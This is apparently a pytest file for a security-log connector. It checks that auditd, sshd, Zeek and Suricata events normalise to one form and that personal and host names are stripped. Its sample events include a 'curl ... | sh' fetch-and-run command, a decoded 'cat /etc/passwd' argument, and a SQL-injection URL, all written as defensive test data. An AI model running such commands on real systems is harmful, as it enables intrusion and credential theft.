"""One canonical form of auditd, sshd, Zeek and Suricata events through every door that brings them."""

from __future__ import annotations

import json
from typing import Any

import pytest

from connector.events import canonical, kind_of
from connector.events.normalise import to_ecs
from connector.types import Pairs
from tests.events import vectors

RAW = vectors.golden()

AGENT: dict[str, dict[str, Any]] = {
    "auditd": {
        "event": {
            "dataset": "auditd_manager.auditd",
            "module": "auditd",
            "kind": "event",
            "action": "executed",
            "category": ["process"],
            "type": ["start"],
            "outcome": "success",
        },
        "auditd": {
            "data": {"syscall": "execve", "arch": "x86_64", "exit": "0", "tty": "pts0"},
            "message_type": "syscall",
            "result": "success",
        },
        "user": {"id": "0", "name": "root", "audit": {"id": "1000", "name": "bob"}},
        "process": {
            "executable": "/usr/bin/bash",
            "args": ["bash", "-c", "curl -s http://203.0.113.9/x | sh"],
            "title": "bash -c curl -s http://203.0.113.9/x | sh",
            "working_directory": "/home/bob",
        },
        "tags": ["T1059_shell"],
    },
    "linux-auth": {
        "event": {
            "dataset": "system.auth",
            "action": "ssh_login",
            "category": ["authentication"],
            "outcome": "failure",
        },
        "process": {"name": "sshd", "pid": 2211},
        "system": {"auth": {"ssh": {"event": "Failed", "method": "password"}}},
        "user": {"name": "admin"},
        "source": {"ip": "203.0.113.9", "port": 51822},
        "message": "Failed password for invalid user admin from 203.0.113.9 port 51822 ssh2",
    },
    "zeek-connection": {
        "event": {"dataset": "zeek.connection", "category": ["network"], "type": ["connection", "start", "end"]},
        "zeek": {"session_id": "CHhAvVGS1DHFjwGM9", "connection": {"state": "SF", "history": "ShADadFf"}},
        "source": {"ip": "10.1.2.3", "port": 49152},
        "destination": {"ip": "203.0.113.9", "port": 443},
        "network": {"transport": "tcp", "protocol": "ssl", "direction": "outbound"},
    },
    "zeek-http": {
        "event": {"dataset": "zeek.http", "category": ["network", "web"]},
        "zeek": {"http": {"resp_mime_types": ["text/html"], "trans_depth": 1}},
        "http": {"request": {"method": "GET"}, "response": {"status_code": 404}},
        "url": {"original": "/a.php?id=1%27--", "domain": "updates.example.com"},
        "user_agent": {"original": "curl/8.0"},
        "source": {"ip": "10.1.2.3"},
        "destination": {"ip": "203.0.113.9", "port": 443},
    },
    "zeek-dns": {
        "event": {"dataset": "zeek.dns", "category": ["network"]},
        "dns": {"question": {"name": "x1.tunnel.example.com", "type": "TXT"}, "response_code": "NOERROR"},
        "network": {"transport": "udp", "protocol": "dns"},
        "source": {"ip": "10.1.2.3"},
        "destination": {"ip": "203.0.113.9", "port": 443},
    },
    "suricata": {
        "event": {"dataset": "suricata.eve", "kind": "alert", "category": ["network", "intrusion_detection"]},
        "suricata": {"eve": {"event_type": "alert", "alert": {"action": "allowed", "metadata": {"mitre": "T1071"}}}},
        "rule": {
            "name": "ET HUNTING GENERIC SUSPICIOUS POST to Dotted Quad",
            "category": "Potentially Bad Traffic",
        },
        "http": {"request": {"method": "POST"}, "response": {"status_code": 200}},
        "url": {"original": "/gate.php", "domain": "203.0.113.9"},
        "user_agent": {"original": "Mozilla/4.0"},
        "network": {"transport": "tcp", "protocol": "http"},
        "source": {"ip": "10.1.2.3", "port": 50096},
        "destination": {"ip": "203.0.113.9", "port": 80},
    },
}
"""The golden events as the Elastic integrations index them."""

SOURCETYPES = {
    "auditd": "linux:audit",
    "linux-auth": "linux_secure",
    "zeek-connection": "bro:conn:json",
    "zeek-http": "corelight_http",
    "zeek-dns": "bro:dns:json",
    "suricata": "suricata",
}


def form(data: Any) -> Pairs:
    """The canonical form of an event."""
    kind, ecs = to_ecs(data)
    return canonical(ecs, kind)


def text(name: str) -> str:
    """A golden event as the line that a log holds."""
    raw = RAW[name]
    return raw if isinstance(raw, str) else json.dumps(raw)


@pytest.mark.parametrize("name", AGENT)
def test_an_integration_s_document_has_the_form_of_the_raw_record(name: str) -> None:
    assert form(AGENT[name]) == form(RAW[name])
    assert canonical(AGENT[name], kind_of(AGENT[name])) == form(AGENT[name]), "normalising changed a document's form"
    assert form({"_index": "logs", "_id": "1", "_source": AGENT[name]}) == form(RAW[name])


@pytest.mark.parametrize("name", AGENT)
def test_a_splunk_row_has_the_form_of_its_raw_text(name: str) -> None:
    row = {"_raw": text(name), "_time": "1709633472", "sourcetype": SOURCETYPES[name], "host": "web-7", "index": "os"}
    assert form(row) == form(RAW[name])
    assert form({"preview": False, "result": row}) == form(RAW[name])


@pytest.mark.parametrize("name", AGENT)
def test_a_collector_s_envelope_has_the_form_of_what_it_carries(name: str) -> None:
    assert form({"sourcetype": SOURCETYPES[name], "host": "web-7", "event": RAW[name]}) == form(RAW[name])
    assert form(text(name).encode()) == form(RAW[name])


@pytest.mark.parametrize("name", ["zeek-connection", "zeek-http", "zeek-dns"])
def test_zeek_s_records_read_alike_without_a_path_with_nested_ids_and_from_tables(name: str) -> None:
    record = dict(RAW[name])
    path = record.pop("_path")
    assert form(record) == form(RAW[name])
    ids = {key.removeprefix("id."): record.pop(key) for key in list(record) if key.startswith("id.")}
    assert form({**record, "id": ids}) == form(RAW[name])
    row = {key: _cell(value) for key, value in RAW[name].items()}
    assert form({**row, "_path": path}) == form(RAW[name])


def _cell(value: Any) -> str:
    if isinstance(value, bool):
        return "T" if value else "F"
    return ",".join(value) if isinstance(value, list) else str(value)


@pytest.mark.parametrize("frame", ["", "<86>", "<13>"])
def test_a_syslog_priority_does_not_change_what_a_program_said(frame: str) -> None:
    assert form(frame + RAW["linux-auth"]) == form(RAW["linux-auth"])


def test_an_audit_event_that_syslog_carries_reads_as_itself() -> None:
    line = RAW["auditd-login"]
    assert form(f"<13>Mar  5 10:11:12 web-7 audispd: {line}") == form(line)
    assert form(f"node=web-7 {line}") == form(line)


@pytest.mark.parametrize("name", ["auditd", "suricata", "splunk-notable", "elastic-alert"])
def test_a_technique_that_a_rule_was_annotated_with_reaches_no_model(name: str) -> None:
    assert "T1" in json.dumps(RAW[name])
    assert not [value for _, value in form(RAW[name]) if "t1059" in value.lower() or "t1071" in value.lower()]


@pytest.mark.parametrize("name", [name for name in RAW if name.startswith(("auditd", "linux-auth", "zeek", "cim"))])
def test_no_name_of_a_person_or_host_reaches_a_model(name: str) -> None:
    shown = " ".join(value for _, value in form(RAW[name])).lower()
    assert not [word for word in ("bob", "mallory", "web-7", "ws1", "203.0.113", "10.1.2") if word in shown]


def test_an_alert_s_event_keeps_the_form_that_it_has_without_the_alert() -> None:
    alert = RAW["sysmon-1-alert"]["_source"]
    event = {key: value for key, value in alert.items() if not key.startswith("kibana.")}
    assert form(alert) == form(event)
    assert to_ecs(alert)[1]["rule"]["name"] == "Whoami"


def test_text_that_is_no_syslog_stays_a_line_of_text() -> None:
    for line in (
        "Mar 5th is a date",
        "2024-01-01 10:00:00 something: happened",
        "May the force: be with you",
        "<x> y: z",
    ):
        assert to_ecs(line)[0] == "generic", line


def test_records_of_another_event_do_not_join_the_first() -> None:
    first, other = RAW["auditd-connect"], RAW["auditd-sudo"]
    assert form(f"{first}\n{other}") == form(first)


def test_the_pieces_of_a_long_argument_are_joined() -> None:
    line = 'type=EXECVE msg=audit(1.2:3): argc=3 a0="sh" a1="-c" a2_len=22 a2[0]=636174202F a2[1]=6574632F706173737764'
    assert to_ecs(line)[1]["process"]["args"] == ["sh", "-c", "cat /etc/passwd"]


@pytest.mark.parametrize(
    ("line", "field", "wanted"),
    [
        (
            "sshd[1]: User bob from 203.0.113.9 not allowed because not listed in AllowUsers",
            "event.action",
            "ssh_denied",
        ),
        ("sshd[1]: Failed password for bob from ws1.example.org port 22 ssh2", "ssh.event", "failed"),
        ("systemd-logind[700]: New session 12 of user bob.", "event.action", "session_opened"),
        ("groupadd[12]: new group: name=bob, GID=1001", "event.action", "added-group-account"),
        ("usermod[12]: add 'bob' to group 'sudo'", "linux.group", "sudo"),
        (
            "sshd[1]: pam_unix(sshd:auth): authentication failure; uid=0 rhost=ws1.example.org  user=bob",
            "event.action",
            "pam",
        ),
    ],
)
def test_a_line_that_names_a_person_tells_what_happened_and_not_to_whom(line: str, field: str, wanted: str) -> None:
    kind, ecs = to_ecs(f"Mar  5 10:11:12 web-7 {line}")
    pairs = canonical(ecs, kind)
    assert (field, wanted) in pairs
    assert not [value for _, value in pairs if "bob" in value or "ws1" in value or "web-7" in value]


@pytest.mark.parametrize("told", ["ws1.example.org", "ws1"])
@pytest.mark.parametrize(
    "line",
    ["Failed password for bob from {} port 22 ssh2", "pam_unix(sshd:auth): authentication failure; rhost={}  user=bob"],
)
def test_a_host_s_name_is_no_address(line: str, told: str) -> None:
    _, ecs = to_ecs(f"Mar  5 10:11:12 web-7 sshd[1]: {line.format(told)}")
    assert ecs["source"].get("ip") is None
    assert ecs["source"]["domain"] == told
